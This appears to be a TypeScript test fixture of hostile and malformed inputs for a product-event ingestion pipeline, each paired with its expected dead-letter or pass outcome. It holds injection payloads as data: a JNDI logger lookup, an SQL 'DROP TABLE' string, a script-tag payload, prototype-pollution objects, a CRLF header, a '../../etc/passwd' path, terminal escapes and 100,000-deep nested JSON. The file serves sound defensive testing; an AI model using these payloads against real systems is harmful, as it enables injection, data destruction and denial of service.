import type { ProductEvent } from '@labelstream/shared/events/product-event';
import { event } from '../harness.js';
import type { Row } from './input.js';

const NOT_DECODABLE = 'deadLetter EVENT_NOT_DECODABLE';
const INVALID = 'deadLetter EVENT_INVALID';
const NO_ID = 'deadLetter EVENT_NO_PRODUCT_ID';
const PASSES = 'emit MISSING USED';

const text = (value: string) => Buffer.from(value);
const json = (value: unknown) => text(JSON.stringify(value));
/** An event as JSON text, with more fields before its own. */
const around = (fields: string) => text(`{${fields},${JSON.stringify(event()).slice(1)}`);
/** As little of an event as there can be, and these fields. */
const bare = (fields: string) => text(`{"productId":"p","version":1,"op":"UPSERT",${fields}}`);
const nested = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);
const names = (count: number) => Object.fromEntries(Array.from({ length: count }, (_, i) => [`a${i}`, 'x']));

/** Messages that are no event, or one that is more than it seems. */
export const EVENTS: readonly Row<Uint8Array | null>[] = [
  ['no value at all', null, NOT_DECODABLE],
  ['0 bytes', Buffer.alloc(0), NOT_DECODABLE],
  ['neither Avro nor JSON', text('<event/>'), NOT_DECODABLE],
  ['a line of a log in place of JSON', text('x\n\u001b[2J{"level":"fatal"}\u2028'), NOT_DECODABLE],
  ['JSON that breaks off', text('{"productId":"p'), NOT_DECODABLE],
  ['JSON in UTF-16', Buffer.from('\ufeff{"productId":"p"}', 'utf16le'), NOT_DECODABLE],
  ['JSON that is not UTF-8', Buffer.concat([text('{"productId":"'), Buffer.from([0xff, 0xfe]), text('"}')]), NOT_DECODABLE],
  ['JSON with a comment', text('{/*x*/"productId":"p"}'), NOT_DECODABLE],
  ['two JSON documents', Buffer.concat([json(event()), json(event())]), NOT_DECODABLE],
  ['a JSON list', json([event()]), INVALID],
  ['JSON null', text('null'), INVALID],
  ['a JSON number', text('1'), INVALID],
  ['100,000 lists that are opened', text('['.repeat(100_000)), NOT_DECODABLE],
  ['100,000 lists within each other', text(nested(100_000)), INVALID],
  ['100,000 lists in a field nobody knows', around(`"x":${nested(100_000)}`), PASSES],
  ['100,000 objects in a field nobody knows', around(`"x":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`), PASSES],
  ['100,000 lists for a title', bare(`"title":${nested(100_000)}`), INVALID],
  ['100,000 lists for an attribute', bare(`"attributes":{"a":${nested(100_000)}}`), INVALID],
  ['a field repeated 100,000 times', around(Array.from({ length: 100_000 }, () => '"x":1').join(',')), PASSES],
  ['100,000 fields nobody knows', json({ ...names(100_000), ...event() }), PASSES],
  ['100,000 attributes', json({ ...event(), attributes: names(100_000) }), INVALID],
  ['100,000 images', json({ ...event(), images: Array.from({ length: 100_000 }, () => ({ uri: 'x' })) }), INVALID],
  ['an attribute name of 1 MB', json({ ...event(), attributes: { ['a'.repeat(1_000_000)]: 'x' } }), INVALID],
  ['a locale of 1 MB', json({ ...event(), locale: 'e'.repeat(1_000_000) }), INVALID],
  ['more bytes than allowed', Buffer.alloc(8 * 1024 * 1024 + 1), 'deadLetter EVENT_TOO_LARGE'],
  ['a version that is no number', json({ ...event(), version: 'x' }), INVALID],
  ['a version as text', json({ ...event(), version: '1' }), INVALID],
  ['a version that no double holds', text('{"productId":"p","version":9007199254740993,"op":"UPSERT"}'), INVALID],
  ['an infinite version', text('{"productId":"p","version":1e999,"op":"UPSERT"}'), INVALID],
  ['a negative version', json({ ...event(), version: -1 }), INVALID],
  ['a time in the year 300,000', json({ ...event(), occurredAt: 9e15 }), INVALID],
  ['a time without an offset', json({ ...event(), occurredAt: '2026-01-01T00:00:00' }), INVALID],
  ['no product id', json({ ...event(), productId: undefined }), NO_ID],
  ['an empty product id', json({ ...event(), productId: ' ' }), NO_ID],
  ['a product id of blanks that are no spaces', json({ ...event(), productId: '\u3000\u2003' }), NO_ID],
  ['a product id that is an object', json({ ...event(), productId: { toString: 'x' } }), INVALID],
  ['an unknown operation', json({ ...event(), op: 'REPLACE' }), 'deadLetter EVENT_UNKNOWN_OP'],
  ['an operation that turns direction', json({ ...event(), op: 'X\u202e\u2028\u200b' }), 'deadLetter EVENT_UNKNOWN_OP'],
  ['an operation of every object', json({ ...event(), op: 'constructor' }), 'deadLetter EVENT_UNKNOWN_OP'],
  ['images that are no list', json({ ...event(), images: 'x' }), INVALID],
  ['images that look like a list', json({ ...event(), images: { 0: { uri: 'x' }, length: 1 } }), INVALID],
  ['a hash that is no hash', json({ ...event(), images: [{ uri: 'x', sha256: '../../x' }] }), INVALID],
  ['neither text nor image', json(event({ title: '' })), 'deadLetter EVENT_EMPTY'],
  ['blanks for a text', json(event({ title: ' \t\n', description: '\u3000' })), 'deadLetter EVENT_EMPTY'],
  ['a prototype', around('"__proto__":{"polluted":"yes","op":"DELETE"}'), PASSES],
  ['nothing but a prototype', text(`{"__proto__":${JSON.stringify(event())}}`), NO_ID],
  ['a constructor with a prototype', around('"constructor":{"prototype":{"polluted":"yes"}}'), PASSES],
  ['attributes with a prototype', bare('"title":"abc","attributes":{"__proto__":{"polluted":"yes"},"a":"b"}'), PASSES],
  ['an image with a prototype for its URI', bare('"images":[{"__proto__":{"uri":"x"}}]'), INVALID],
  [
    'attributes named as methods',
    json({ ...event(), attributes: { constructor: 'x', toString: 'y', hasOwnProperty: 'z', valueOf: 'w' } }),
    PASSES,
  ],
];

/** Texts of a listing. */
export const TEXTS: readonly Row<Partial<ProductEvent>>[] = [
  ['a title of 1 MB without an image', { title: 'a'.repeat(1_000_000) }, 'deadLetter TEXT_TOO_LARGE'],
  ['a title of 1 MB beside a description', { title: 'a'.repeat(1_000_000), description: 'red' }, 'deadLetter TEXT_TOO_LARGE'],
  ['a title of 64 KiB without a blank', { title: 'a'.repeat(65_536) }, PASSES],
  ['a title of 64 KiB of blanks', { title: `${' '.repeat(65_000)}a` }, PASSES],
  ['20,000 marks on one letter', { title: `e${'\u0301'.repeat(20_000)}` }, PASSES],
  ['5,000 people joined to one sign', { title: '\u{1f469}\u200d'.repeat(5000) }, PASSES],
  ['markup', { title: '<script>alert(1)</script>' }, PASSES],
  ['a lookup of a logger', { title: '$' + '{jndi:ldap://inner.test/x}' }, PASSES],
  ['a query', { title: "'; DROP TABLE products; --" }, PASSES],
  ['line breaks and a log line', { title: 'red\r\n{"level":"fatal","msg":"forged"}\n' }, PASSES],
  ['commands of a terminal', { title: '\u001b]0;title\u0007\u001b[2J\u001b[31m\u009b31m' }, PASSES],
  ['control characters', { title: '\u0000\u0001\u0008' }, PASSES],
  ['half a surrogate pair', { title: 'red \ud83d shirt' }, PASSES],
  ['text that turns direction', { title: '\u202eder' }, PASSES],
  ['special tokens', { title: '[EOS] [PAD] </s> <|endoftext|>' }, PASSES],
  ['a line separator', { title: 'a\u2028b\u2029c' }, PASSES],
];

/** Product ids. */
export const IDS: readonly Row<string>[] = [
  ['a line break', 'p\n1', INVALID],
  ['a header', 'p\r\nX-Admin: 1', INVALID],
  ['commands of a terminal', '\u001b[2Jp', INVALID],
  ['a C1 command of a terminal', '\u009b2Jp', INVALID],
  ['a zero byte', 'p\u00001', INVALID],
  ['a delete', 'p\u007f', INVALID],
  ['half a surrogate pair', 'p\ud800', INVALID],
  ['600 bytes in 200 characters', '\u20ac'.repeat(200), INVALID],
  ['a line separator', 'p\u20281', INVALID],
  ['a paragraph separator', 'p\u20291', INVALID],
  ['text that turns direction', '\u202e1p', PASSES],
  ['a blank without width', 'p\u200b1', PASSES],
  ['an invisible tag', 'p\u{e0031}', PASSES],
  ['the name of the prototype', '__proto__', PASSES],
  ['a name of every object', 'constructor', PASSES],
  ['a path', '../../etc/passwd', PASSES],
  ['a key of the published state', 'pub::p-1', PASSES],
  ['a pattern of Redis', '*', PASSES],
  ['a hash tag of Redis', '{p}', PASSES],
  ['an accent composed', 'caf\u00e9', PASSES],
  ['an accent decomposed', 'cafe\u0301', PASSES],
  ['full-width letters', '\uff50\uff11', PASSES],
  ['an emoji of several parts', '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}', PASSES],
];
